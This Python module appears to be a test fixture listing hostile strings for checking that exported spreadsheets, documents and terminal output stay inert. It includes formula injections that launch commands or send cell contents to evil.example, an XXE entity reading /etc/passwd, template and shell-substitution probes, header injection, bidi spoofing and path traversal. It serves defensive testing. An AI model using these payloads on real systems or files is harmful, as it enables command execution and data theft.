"""Texts that attack whoever opens, prints or reads what was made of them."""

from __future__ import annotations

from collections.abc import Mapping

ESCAPE = "\x1b"
BIDI = "\u202e"
HALF = "\ud800"  # of a pair: no encoding can write it

#: Payloads by name; none of them may do anything anywhere but stand as text.
PAYLOADS: Mapping[str, str] = {
    # what a spreadsheet program would calculate
    "formula": "=1+1",
    "array formula": "{=SUM(A1:A9)}",
    "command": "=cmd|'/C calc'!A0",
    "dde": '=DDE("cmd";"/C calc";"x")',
    "web": '=WEBSERVICE("http://evil.example/"&A1)',
    "link formula": '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")',
    "plus": "+1",
    "minus": "-1",
    "minus formula": "-1+cmd|'/C calc'!A0",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "new line": "\n=1+1",
    "blank": " =1+1",
    "wide equals": "＝1+1",
    "wide plus": "＋1+1",
    "wide minus": "－1+1",
    "wide at": "＠SUM(A1)",
    "apostrophe": "'=1+1",
    "next cell": "текст;=1+1;+2",
    "next quoted cell": 'текст",=1+1;"=1+1";',
    "second line": 'строка\n=1+1\r\n"@SUM(A1)',
    # what would become a link
    "mail link": "mailto:evil@evil.example",
    "file link": "file:///etc/passwd",
    "script link": "javascript:alert(1)",
    "web link": "http://evil.example/?a=1&b=2",
    "inner link": "internal:'Титул'!A1",
    "share": "\\\\evil.example\\share\\file.xlsx",
    # what would become markup
    "script": "<script>alert(1)</script>",
    "entities": "&lt;b&gt; &amp;amp; &#61;1+1",
    "xml": ']]></t></is></c><c r="A1"><f>1+1</f></c><!--',
    "document type": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "word field": '</w:t></w:r><w:fldSimple w:instr="DATE"/>',
    "tag of a template": "{{ 7*7 }} {{ self.__init__ }}",
    "loop of a template": "{% for _ in range(9) %}9{% endfor %}{# #}{%tr for a in b %}",
    "format": "{place} {0} {} %s %(a)s ${HOME} $(reboot) `reboot`",
    "written escape": "_x003D_1+1_x001B_[31m",
    # what a terminal or a reader would obey
    "terminal": f"{ESCAPE}[31mкрасный{ESCAPE}]0;title\x07{ESCAPE}[2J",
    "terminal of eight bits": "\x9b31mкрасный\x9d0;title\x9c",
    "bidi": f"отчёт{BIDI}xslx.exe\u2066\u2069\u200f",
    "unseen": "шко\u200bла\ufeff\u00ad\u2060№\u00a01\U000e0041",
    "control": "а\x00б\x01в\x08г\x0bд\x0cе\x1fж\x7fз\x85и",
    "no character": "а\ufffeб\uffffв",
    "half of a pair": f"а{HALF}б\udc96в",
    "separators": "а\u2028б\u2029в",
    "header": "a@evil.example\r\nBcc: all@evil.example\r\n\r\nтекст",
    # what would become a path or a sheet
    "path": "../../../etc/passwd",
    "windows path": "C:\\Windows\\System32\\..\\x",
    "device": "CON",
    "device with an ending": "nul.txt",
    "sheet name": "[a]:*?/\\'b'",
    "sheet name at its ends": "'History'",
    # what is too much, or broken already
    "long": "длинно " * 43,
    "longer than a cell": "а" * 40_000,
    "mangled": "Ïðèêàç ¹ 5 РџСЂРёРєР°Р·",
    "emoji": "👩\u200d🏫 " + "е\u0301" * 40,
    "not a number": "nan",
    "infinity": "-inf",
    "huge number": "-1E999",
}
